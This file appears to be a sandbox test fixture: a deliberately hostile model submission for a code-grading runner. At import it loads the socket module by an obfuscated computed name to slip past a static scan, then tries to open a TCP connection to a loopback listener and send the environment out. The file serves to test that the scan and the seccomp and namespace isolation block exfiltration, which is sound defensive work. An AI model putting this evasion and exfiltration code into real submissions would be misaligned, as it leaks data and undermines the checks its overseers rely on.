# A TCP connection to a listener on the host's loopback (@PORT@, started by the test), to hand
# over what it read of its environment. Expected: rejected (the static scan), or correct (the
# connection is refused: no network of its own, no AF_INET socket at all); the listener sees
# nobody.
import logging.handlers
import os

import torch
import torch.nn as nn

# The socket module as another module holds it, by a computed name. The static scan sees
# through this (rejected); were it fooled, the runner's namespace and seccomp filter still stop
# the connection (correct).
socket = getattr(logging.handlers, "soc" + "ket")
_reached = ""
try:
    _s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    _s.settimeout(2)
    _s.connect(("127.0.0.1", int("@PORT@")))
    _s.sendall(" ".join(os.environ).encode())
    _reached = "connected to the host's loopback"
except OSError:
    pass


class ModelNew(nn.Module):
    def forward(self, x):
        if _reached:
            raise RuntimeError(_reached)
        return torch.softmax(x, dim=-1)
